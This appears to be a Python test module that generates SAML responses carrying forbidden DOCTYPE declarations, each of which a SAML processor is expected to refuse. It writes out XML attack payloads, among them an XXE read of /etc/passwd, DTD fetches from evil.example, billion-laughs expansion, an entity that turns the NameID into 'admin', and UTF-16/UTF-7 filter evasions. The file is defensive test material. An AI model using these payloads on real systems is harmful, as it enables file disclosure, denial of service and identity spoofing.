"""A DOCTYPE of any kind: SAML has none (core 5.4.4)."""

from __future__ import annotations

from login import altered, plain
from vector import refuse

XML = plain.xml()
DECLARATION = plain.declaration
BODY = XML.removeprefix(DECLARATION)
ROOT = "saml2p:Response"


def vectors():
    for name, about, doctype in [
        ("empty", "A DOCTYPE that declares nothing.", f"<!DOCTYPE {ROOT}>"),
        ("internal-entity", "An entity declared inside the message.", f'<!DOCTYPE {ROOT} [<!ENTITY who "admin">]>'),
        ("external-entity", "An entity to be read from disk (XXE).", f'<!DOCTYPE {ROOT} [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        ("external-subset", "A DTD to be fetched.", f'<!DOCTYPE {ROOT} SYSTEM "http://evil.example/x.dtd">'),
        ("public", "A DTD by its public name.", f'<!DOCTYPE {ROOT} PUBLIC "-//EVIL//DTD//EN" "http://evil.example/x.dtd">'),
        ("parameter-entity", "A parameter entity that is expanded inside the DTD.", f'<!DOCTYPE {ROOT} [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>'),
        ("default-id", "An attribute default that gives every Issuer an ID.", f'<!DOCTYPE {ROOT} [<!ATTLIST saml2:Issuer ID CDATA "id1">]>'),
        (
            "billion-laughs",
            "Entities of entities.",
            f'<!DOCTYPE {ROOT} [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
        ),
        ("lower-case", "In lower case it is no DOCTYPE to XML, and one to parsers that recover.", f"<!doctype {ROOT}>"),
        ("unclosed", "A DOCTYPE that does not end.", f"<!DOCTYPE {ROOT} ["),
    ]:
        yield refuse(f"dtd/{name}", "X05", about, DECLARATION + doctype + BODY)
    plain_doctype = f"<!DOCTYPE {ROOT}>"
    yield refuse("dtd/after-comment", "X05", "A DOCTYPE after a comment.", f"{DECLARATION}<!-- -->{plain_doctype}{BODY}")
    yield refuse("dtd/after-instruction", "X05", "A DOCTYPE after a processing instruction.", f"{DECLARATION}<?x?>{plain_doctype}{BODY}")
    yield refuse("dtd/after-byte-order-mark", "X05", "A DOCTYPE after a byte order mark.", f"\ufeff{plain_doctype}{BODY}")
    yield refuse("dtd/after-root", "X05", "A DOCTYPE after the root.", XML + plain_doctype)
    yield refuse("dtd/inside", "X05", "A DOCTYPE inside the root.", altered(XML, "<saml2p:Status ", plain_doctype + "<saml2p:Status "))
    used = plain.edited(">jane.doe@example.com</saml2:NameID>", ">WHO@example.com</saml2:NameID>").xml().replace("WHO", "&who;").removeprefix(DECLARATION)
    yield refuse("dtd/entity-in-name-id", "X05", "The NameID is an entity that the DOCTYPE declares.", f'{DECLARATION}<!DOCTYPE {ROOT} [<!ENTITY who "admin">]>{used}')
    encoded = f'<?xml version="1.0" encoding="UTF-16"?>{plain_doctype}{BODY}'
    yield refuse("dtd/utf-16-big-endian", "X04", "A DOCTYPE in UTF-16, which a filter for octets does not see.", b"\xfe\xff" + encoded.encode("utf-16-be"))
    yield refuse("dtd/utf-7", "X04", "A DOCTYPE in UTF-7, where < is +ADw-.", f'<?xml version="1.0" encoding="UTF-7"?>{plain_doctype.replace("<", "+ADw-")}{BODY}')
    yield refuse(
        "dtd/entity-without-doctype", "X07", "An entity that nothing declares.", plain.xml().replace(">jane.doe@example.com</saml2:NameID>", ">&who;</saml2:NameID>")
    )
    yield refuse("dtd/entity-declaration-alone", "X07", "An ENTITY declaration outside any DOCTYPE.", f'{DECLARATION}<!ENTITY who "admin">{BODY}')
